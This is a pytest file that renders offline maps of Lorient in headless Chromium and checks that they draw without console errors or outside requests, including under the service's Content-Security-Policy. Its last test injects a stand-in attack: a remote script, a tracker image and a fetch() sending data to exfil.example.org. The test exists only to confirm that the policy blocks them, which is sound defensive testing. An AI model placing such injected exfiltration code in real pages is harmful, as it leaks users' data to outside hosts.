"""The offline maps in a real browser: drawn, no console error, no request to any outside host.

Each page is built from the real Lorient extract, saved under ``test-artifacts/maps/`` and opened
in headless chromium (Debian's package, installed by ``scripts/system_packages.sh`` before
pytest starts; these tests fail, never skip, without it) with every host name unresolvable. The
screenshots stay in ``test-artifacts/maps/`` (gitignored) beside the pages and their net logs.
A negative control (an online map) shows that the checks do catch CDN requests and script
errors.
"""

from __future__ import annotations

import os
import re
import shutil
import warnings
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pytest
import shapely

import maps
from tests.browser import PageRun, open_page
from tests.conftest import shared

REPO = Path(__file__).resolve().parents[2]
ARTIFACTS = REPO / "test-artifacts" / "maps"


@pytest.fixture(scope="module")
def pages(lorient_pbf: Path) -> dict[str, Path]:
    """Build and save every map once: name -> page."""
    from qet_geo.analysis.footprint import su_footprints
    from qet_geo.constraints.access import neighbourhood_access
    from qet_geo.inputs.territory import territory_from_file
    from qet_geo.layers import build_layers
    from qet_geo.surveys.synthetic import synthesize_answers

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        layers = build_layers(
            lorient_pbf, territory=territory_from_file(REPO / "data/osm/lorient_centre.geojson")
        )
        access = neighbourhood_access(layers)
        answers = synthesize_answers(layers, 300, seed=1, access=access)
    answers["profile"] = answers["transportation_mode"].astype(int) - 1
    answers["total_kgco2e"] = su_footprints(answers)["total_kgco2e"]

    amenities = layers.layers["amenities"]
    rows = [amenities[amenities["category"] == c].iloc[0] for c in ("market", "food_shop", "park")]
    stops = gpd.GeoDataFrame(rows, crs=amenities.crs).reset_index(drop=True)
    stops["order"] = [1, 2, 3]
    stops["name"] = stops["name"].fillna("Sans nom")
    stops["reason"] = ["marché : alimentation durable", "commerce alimentaire", "parc"]
    stops["leg_min"] = [np.nan, 6.0, 9.0]
    path = gpd.GeoSeries([shapely.LineString(list(stops.geometry))], crs=stops.crs)

    network = gpd.GeoDataFrame(
        {
            "name": ["Bel-Air", "Montesson centre", "Porte d'Orléans", "Lorient centre"],
            "n_respondents": [412, 603, 250, 7],
            "total_kgco2e_mean": [6300.0, 6600.0, 5900.0, 5400.0],
        },
        geometry=gpd.points_from_xy(
            [2.094, 2.150, 2.327, -3.3605], [48.899, 48.910, 48.823, 47.7475]
        ),
        crs=4326,
    )
    regions = gpd.read_file(shared("census", "communes", "regions-version-simplifiee.geojson"))
    after = access.assign(food_shop_min=access["food_shop_min"] * 0.6)

    built: dict[str, Any] = {
        "constraints": maps.make_neighbourhood_map(layers, access=access, column="food_shop_min"),
        "amenities": maps.make_amenities_map(amenities, m=maps.make_basemap(layers)),
        "profiles": maps.make_profiles_map(answers, m=maps.make_basemap(layers)),
        "route": maps.make_route_map(stops, path, m=maps.make_basemap(layers)),
        "national": maps.make_national_map(network, color="total_kgco2e_mean", background=regions),
        "compare": maps.make_compare_map(
            access, after, "food_shop_min", layers=layers, titles=("Avant", "Après")
        ),
        "online_control": maps.make_constraints_map(access, "food_shop_min", offline=False),
    }
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    return {name: maps.save_map(m, ARTIFACTS / f"{name}.html") for name, m in built.items()}


class _Runs:
    """Each page opened once per test process, when a test first asks for it."""

    def __init__(self, pages: dict[str, Path], tmp: Path) -> None:
        self.pages = pages
        self.tmp = tmp
        self.done: dict[str, PageRun] = {}

    def __getitem__(self, name: str) -> PageRun:
        if name not in self.done:
            # screenshot and net log written aside, then moved: parallel workers never clash
            run = open_page(self.pages[name], screenshot=self.tmp / f"{name}.png")
            for produced in (run.screenshot, run.netlog):
                if produced is not None:
                    staged = ARTIFACTS / f".{produced.name}.{os.getpid()}"
                    shutil.copyfile(produced, staged)
                    os.replace(staged, ARTIFACTS / produced.name)
            self.done[name] = run
        return self.done[name]


@pytest.fixture(scope="module")
def runs(pages: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> _Runs:
    return _Runs(pages, tmp_path_factory.mktemp("chromium"))


def _check_clean(run: PageRun) -> None:
    assert run.requests == [], f"the page requested outside hosts: {run.requests}"
    assert run.console == [], f"the page wrote to the console: {run.console}"
    assert 'class="leaflet-container' in run.dom or "leaflet-container " in run.dom
    assert run.screenshot is not None and run.screenshot.stat().st_size > 20_000


def _visible_legends(dom: str) -> list[str]:
    return re.findall(r'class="qet-panel qet-legend[^"]*leaflet-control"', dom)


@pytest.mark.parametrize(
    ("name", "min_paths"),
    [("constraints", 1000), ("profiles", 10), ("route", 4), ("national", 4), ("amenities", 0)],
)
def test_offline_page_draws_and_fetches_nothing(runs: _Runs, name: str, min_paths: int) -> None:
    run = runs[name]
    _check_clean(run)
    assert run.dom.count("leaflet-interactive") >= min_paths
    assert _visible_legends(run.dom) or name == "route"
    if name != "national":
        assert "<canvas" in run.dom  # the basemap drawn from the extract
    assert "leaflet-control-layers" in run.dom and "leaflet-control-attribution" in run.dom
    assert "contributeurs OpenStreetMap" in run.dom


def test_amenities_are_clustered_in_the_browser(runs: _Runs) -> None:
    dom = runs["amenities"].dom
    assert dom.count('class="leaflet-marker-icon qet-cluster') >= 5
    assert "Commerce de proximité (301)" in dom  # + the 12 specialty food shops


def test_route_page_shows_numbered_stops(runs: _Runs) -> None:
    dom = runs["route"].dom
    for number in ("1", "2", "3"):
        assert f"<div>{number}</div>" in dom
    assert "<div>6 min</div>" in dom and "Visite du quartier" in dom


def test_compare_page_shows_two_synced_maps(runs: _Runs) -> None:
    run = runs["compare"]
    _check_clean(run)
    assert len(re.findall(r'class="folium-map leaflet-container', run.dom)) == 2
    assert len(_visible_legends(run.dom)) == 2
    assert "Avant : moyenne" in run.dom and "Après : moyenne" in run.dom


def test_the_checks_catch_an_online_page(runs: _Runs) -> None:
    run = runs["online_control"]
    assert any("cdn.jsdelivr.net" in url for url in run.requests), run.requests
    assert any("L is not defined" in line for line in run.console_errors), run.console


def test_missing_chromium_fails_loudly(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without chromium the browser tests fail (never skip) and say how to install it."""
    import tests.browser as browser

    monkeypatch.setattr(browser.shutil, "which", lambda name: None)
    with pytest.raises(pytest.fail.Exception, match="chromium is missing") as err:
        browser.chromium()
    assert "scripts/system_packages.sh" in str(err.value)


def _with_policy(page: Path, tmp: Path, extra: str = "") -> Path:
    """A copy of ``page`` under the service's Content-Security-Policy (as a meta element)."""
    from api._headers import META_POLICY

    html = page.read_text(encoding="utf-8")
    meta = f'<meta http-equiv="Content-Security-Policy" content="{META_POLICY}">'
    head = html.index("<head>") + len("<head>")
    out = tmp / f"csp-{page.name}"
    out.write_text(html[:head] + meta + html[head:].replace("</body>", extra + "</body>"))
    return out


@pytest.mark.parametrize(("name", "min_paths"), [("constraints", 1000), ("national", 4)])
def test_maps_draw_under_the_services_security_policy(
    pages: dict[str, Path], tmp_path: Path, name: str, min_paths: int
) -> None:
    """The policy the API sends with every page (api._headers) leaves the maps whole."""
    run = open_page(_with_policy(pages[name], tmp_path), screenshot=tmp_path / f"{name}.png")
    _check_clean(run)  # no "Refused to ..." in the console
    assert run.dom.count("leaflet-interactive") >= min_paths


def test_the_security_policy_blocks_what_an_injected_script_would_do(
    pages: dict[str, Path], tmp_path: Path
) -> None:
    """Negative control: under the policy a page can neither load nor send to another host."""
    extra = (
        '<script src="https://cdn.example.org/x.js"></script>'
        '<img src="https://tracker.example.org/p.gif">'
        "<script>fetch('https://exfil.example.org/?d=1').catch(function(){});</script>"
    )
    run = open_page(_with_policy(pages["route"], tmp_path, extra))
    assert run.requests == [], run.requests  # blocked before any request was made
    refused = [line for line in run.console if "Content Security Policy" in line]
    assert len(refused) >= 3, run.console
